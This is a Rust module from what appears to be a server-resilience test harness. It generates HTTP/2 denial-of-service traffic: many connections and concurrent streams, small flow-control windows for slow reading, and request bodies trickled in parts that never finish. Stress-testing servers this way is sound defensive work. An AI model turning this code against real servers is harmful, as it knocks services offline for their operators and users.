//! Attacks by requests over HTTP/2.

use std::convert::Infallible;
use std::future::{pending, poll_fn};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use h2::SendStream;
use h2::client::{Builder, SendRequest};
use http::{Request, StatusCode};
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::address::attacker;
use super::attack::Field;

/// Between two connections.
const AGAIN: Duration = Duration::from_secs(1);

/// How many attackers there are, and how they ask.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Shape {
    /// Connections, each from the next of the addresses.
    pub(crate) connections: u16,
    pub(crate) addresses: u16,
    /// Requests at a time on each of them, or as many as the server allows.
    pub(crate) streams: usize,
    /// Between two requests of one stream. The first one comes within this time too.
    pub(crate) pause: Duration,
    /// Bytes of each answer that the attacker takes.
    pub(crate) window: u32,
}

/// One request.
pub(crate) struct Ask {
    pub(crate) head: Request<()>,
    pub(crate) body: Body,
}

/// What follows a request's head.
#[derive(Clone)]
pub(crate) enum Body {
    None,
    /// A body as fast as the server takes it.
    Whole(Bytes),
    /// This much of a body, in so many parts with a pause between them, and no end of it.
    Endless(Bytes, u32, Duration),
}

/// Makes requests again and again.
pub(crate) async fn ask(field: Field, shape: Shape, make: impl Fn() -> anyhow::Result<Ask> + Send + Sync + 'static) {
    let make: Arc<dyn Fn() -> anyhow::Result<Ask> + Send + Sync> = Arc::new(make);
    let mut connections = JoinSet::new();
    for number in 0..shape.connections {
        connections.spawn(connection(field.clone(), number % shape.addresses + 1, shape, make.clone()));
    }
    while connections.join_next().await.is_some() {}
}

async fn connection(field: Field, from: u16, shape: Shape, make: Arc<dyn Fn() -> anyhow::Result<Ask> + Send + Sync>) {
    let mut builder = Builder::new();
    builder.initial_window_size(shape.window).max_concurrent_reset_streams(1024);
    loop {
        match field.server.http2(attacker(from), &builder).await {
            Ok((client, connection)) => {
                let mut streams = JoinSet::new();
                for _ in 0..shape.streams {
                    streams.spawn(stream(field.clone(), client.clone(), shape.pause, make.clone()));
                }
                drop(client);
                let _ = connection.await;
                // Each of them learns of it, and counts what was lost.
                while streams.join_next().await.is_some() {}
            }
            Err(_) => {
                field.gains.tried();
                field.gains.cut();
            }
        }
        sleep(AGAIN).await;
    }
}

async fn stream(
    field: Field,
    mut client: SendRequest<Bytes>,
    pause: Duration,
    make: Arc<dyn Fn() -> anyhow::Result<Ask> + Send + Sync>,
) {
    sleep(pause.mul_f64(fastrand::f64())).await;
    while let (Ok(ready), Ok(ask)) = (client.ready().await, make()) {
        client = ready;
        field.gains.tried();
        match one(&mut client, ask).await {
            Ok(status) => field.gains.answered(status),
            Err(error) => field.gains.failed(&error),
        }
        sleep(pause).await;
    }
}

/// One request, to the end of its answer, which may come before all of the body was sent.
async fn one(client: &mut SendRequest<Bytes>, ask: Ask) -> Result<StatusCode, h2::Error> {
    let (answer, mut stream) = client.send_request(ask.head, matches!(ask.body, Body::None))?;
    let send = async {
        // Whether it was taken is seen by the answer.
        let _ = send(&mut stream, ask.body).await;
        pending::<Infallible>().await
    };
    let answer = tokio::select! {
        answer = answer => answer?,
        never = send => match never {},
    };
    let (status, mut body) = (answer.status(), answer.into_body());
    while let Some(part) = body.data().await {
        let length = part?.len();
        body.flow_control().release_capacity(length)?;
    }
    Ok(status)
}

async fn send(stream: &mut SendStream<Bytes>, body: Body) -> Result<(), h2::Error> {
    match body {
        Body::None => Ok(()),
        Body::Whole(text) => {
            push(stream, text).await?;
            stream.send_data(Bytes::new(), true)
        }
        Body::Endless(mut text, parts, pause) => {
            let length = text.len().div_ceil(usize::try_from(parts.max(1)).unwrap_or(1));
            while !text.is_empty() {
                push(stream, text.split_to(length.min(text.len()))).await?;
                sleep(pause).await;
            }
            Ok(())
        }
    }
}

/// Sends data as the server makes room for it.
async fn push(stream: &mut SendStream<Bytes>, mut data: Bytes) -> Result<(), h2::Error> {
    while !data.is_empty() {
        stream.reserve_capacity(data.len());
        let Some(room) = poll_fn(|context| stream.poll_capacity(context)).await.transpose()? else { break };
        stream.send_data(data.split_to(room.min(data.len())), false)?;
    }
    Ok(())
}
